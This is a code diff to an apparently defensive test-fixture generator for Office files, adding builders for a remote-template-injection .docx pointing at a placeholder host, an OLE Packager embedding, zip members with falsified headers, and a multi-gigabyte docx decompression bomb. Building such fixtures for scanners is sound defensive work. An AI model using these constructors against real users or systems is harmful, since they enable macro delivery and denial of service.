@@ -226,6 +226,10 @@ _W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
 def _word(*, macros: bool) -> bytes:
+    return _zip(_word_parts(macros=macros))
+
+
+def _word_parts(*, macros: bool) -> list[tuple[str, str | bytes]]:
     main_ct = (
         "application/vnd.ms-word.document.macroEnabled.main+xml"
         if macros
@@ -250,7 +254,7 @@ def _word(*, macros: bool) -> bytes:
     if macros:
         parts.append(("word/_rels/document.xml.rels", _rels((_VBA_REL, "vbaProject.bin"))))
         parts.append(("word/vbaProject.bin", _vba_project("ThisDocument")))
-    return _zip(parts)
+    return parts
 
 
 def docx() -> bytes:
@@ -440,6 +444,116 @@ def pptx() -> bytes:
         ("docProps/core.xml", _core_props("Order")),
     ]
     return _zip(parts)
+
+
+# --- Office packages that reach outside themselves, carry programs, or unpack too far ------
+
+REL_TYPES = {
+    "attachedTemplate": f"{_OFFICE_REL}/attachedTemplate",
+    "image": f"{_OFFICE_REL}/image",
+    "hyperlink": f"{_OFFICE_REL}/hyperlink",
+    "oleObject": f"{_OFFICE_REL}/oleObject",
+    "package": f"{_OFFICE_REL}/package",
+    "frame": f"{_OFFICE_REL}/frame",
+}
+
+
+def relationships(*rels: tuple[str, str, str | None]) -> str:
+    """A relationships part: each (kind in REL_TYPES, target, TargetMode or None)."""
+    body = "".join(
+        f'<Relationship Id="rId{n}" Type="{REL_TYPES[kind]}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "") + "/>"
+        for n, (kind, target, mode) in enumerate(rels, start=1)
+    )
+    return f'{_XML_DECL}<Relationships xmlns="{_REL_NS}">{body}</Relationships>'
+
+
+def docx_with(*extra: tuple[str, str | bytes]) -> bytes:
+    """The minimal .docx plus more parts; a part of the same name replaces the original."""
+    names = {name for name, _ in extra}
+    return _zip([p for p in _word_parts(macros=False) if p[0] not in names] + list(extra))
+
+
+def repack(package: bytes, *extra: tuple[str, str | bytes]) -> bytes:
+    """Any zip's members plus more; a part of the same name replaces the original."""
+    names = {name for name, _ in extra}
+    with zipfile.ZipFile(io.BytesIO(package)) as source:
+        kept: list[tuple[str, str | bytes]] = [
+            (info.filename, source.read(info)) for info in source.infolist()
+            if info.filename not in names]
+    return _zip(kept + list(extra))
+
+
+def attached_template_docx(target: str = "https://templates.example/invoice.dotm") -> bytes:
+    """A .docx whose settings load a remote template when opened (the template-injection
+    trick: the template may carry macros the .docx itself does not)."""
+    settings = (f'{_XML_DECL}<w:settings xmlns:w="{_W_NS}" xmlns:r="{_OFFICE_REL}">'
+                '<w:attachedTemplate r:id="rId1"/></w:settings>')
+    return docx_with(
+        ("word/settings.xml", settings),
+        ("word/_rels/settings.xml.rels",
+         relationships(("attachedTemplate", target, "External"))),
+    )
+
+
+def ole_package(filename: str, data: bytes) -> bytes:
+    """An OLE Packager object (word/embeddings/oleObject1.bin) wrapping a file, as Office
+    stores a file dragged into a document: \x01Ole10Native holds its name, path and bytes."""
+    name = filename.encode("latin-1")
+    path = b"C:\\Users\\me\\Desktop\\" + name
+    body = (struct.pack("<H", 2) + name + b"\0" + path + b"\0" + struct.pack("<HH", 0, 3)
+            + struct.pack("<I", len(path) + 1) + path + b"\0"
+            + struct.pack("<I", len(data)) + data)
+    clsid = uuid.UUID("0003000c-0000-0000-c000-000000000046").bytes_le  # Package
+    native = _Node("\x01Ole10Native", struct.pack("<I", len(body)) + body)
+    return _compound_file(_Node("Root Entry", children=[native], clsid=clsid))
+
+
+@dataclass
+class RawEntry:
+    """A zip member written as given: `packed` is its stored or compressed data, `size` and
+    `crc` what the headers declare (a lying header declares something else)."""
+
+    name: str
+    packed: bytes
+    size: int
+    crc: int
+    method: int = zipfile.ZIP_DEFLATED
+
+
+def deflated(data: bytes) -> RawEntry:
+    """A member (named later) whose headers tell the truth."""
+    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return RawEntry("", squeezer.compress(data) + squeezer.flush(), len(data), zlib.crc32(data))
+
+
+def raw_zip(entries: list[RawEntry]) -> bytes:
+    """A zip assembled header by header (zipfile cannot write a member's compressed bytes
+    again, nor a header that lies)."""
+    out = bytearray()
+    central = bytearray()
+    for entry in entries:
+        name = entry.name.encode("utf-8")
+        fields = struct.pack("<HHHHHIIIHH", 20, 0, entry.method, 0, 0x21, entry.crc,
+                             len(entry.packed), entry.size, len(name), 0)
+        central += (b"PK\x01\x02" + struct.pack("<H", 20) + fields
+                    + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + name)
+        out += b"PK\x03\x04" + fields + name + entry.packed
+    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(out), 0)
+    return bytes(out + central + b"PK\x05\x06" + end)
+
+
+def docx_bomb(copies: int, each: int) -> bytes:
+    """A .docx with `copies` images that each unpack to `each` zero bytes: one deflated
+    stream written `copies` times, so 2 GiB costs one 20 MB compression."""
+    blob = deflated(bytes(each))
+    entries = []
+    for name, data in _word_parts(macros=False):
+        raw = data.encode("utf-8") if isinstance(data, str) else data
+        entries.append(RawEntry(**{**deflated(raw).__dict__, "name": name}))
+    for n in range(copies):
+        entries.append(RawEntry(f"word/media/image{n}.png", blob.packed, blob.size, blob.crc))
+    return raw_zip(entries)
 
 
 # --- OLE2 / Compound File Binary -----------------------------------------------------------
